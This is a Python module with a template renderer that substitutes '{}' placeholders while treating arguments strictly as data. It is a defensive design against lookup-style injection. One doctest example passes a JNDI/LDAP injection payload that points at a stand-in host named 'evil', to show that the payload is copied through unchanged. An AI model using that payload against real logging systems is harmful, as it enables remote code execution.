"""Placeholder expansion that treats arguments strictly as data.

Purpose
-------
Render ``"User input: {}"`` style templates without ever interpreting the
substituted values. There is no lookup mechanism: ``${...}`` sequences, nested
``{}`` placeholders, ``%s`` markers, or markup inside arguments are copied into
the output exactly as supplied.

Contents
--------
* :func:`render_template` - single left-to-right scan over the template.
* :data:`PLACEHOLDER` - the positional placeholder token.
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

PLACEHOLDER = "{}"
_ESCAPE = "\\"


def render_template(template: str, args: Sequence[Any]) -> str:
    """Substitute ``{}`` placeholders in ``template`` with ``str(arg)``.

    Only the template is scanned; each substituted value is appended to the
    output and never revisited. Missing arguments leave the placeholder in
    place, surplus arguments are ignored, and ``\\{}`` produces a literal
    ``{}``.

    Examples
    --------
    >>> render_template("User input: {}", ["${jndi:ldap://evil/a}"])
    'User input: ${jndi:ldap://evil/a}'
    >>> render_template("{} and {}", ["{}", "x"])
    '{} and x'
    >>> render_template("missing {}", [])
    'missing {}'
    >>> render_template("literal \\\\{} then {}", [1])
    'literal {} then 1'
    """

    if PLACEHOLDER not in template:
        return template

    pieces: list[str] = []
    index = 0
    arg_index = 0
    length = len(template)
    while index < length:
        position = template.find(PLACEHOLDER, index)
        if position == -1:
            pieces.append(template[index:])
            break
        if position > index and template[position - 1] == _ESCAPE:
            pieces.append(template[index : position - 1])
            pieces.append(PLACEHOLDER)
        else:
            pieces.append(template[index:position])
            if arg_index < len(args):
                pieces.append(str(args[arg_index]))
                arg_index += 1
            else:
                pieces.append(PLACEHOLDER)
        index = position + len(PLACEHOLDER)
    return "".join(pieces)


__all__ = ["PLACEHOLDER", "render_template"]
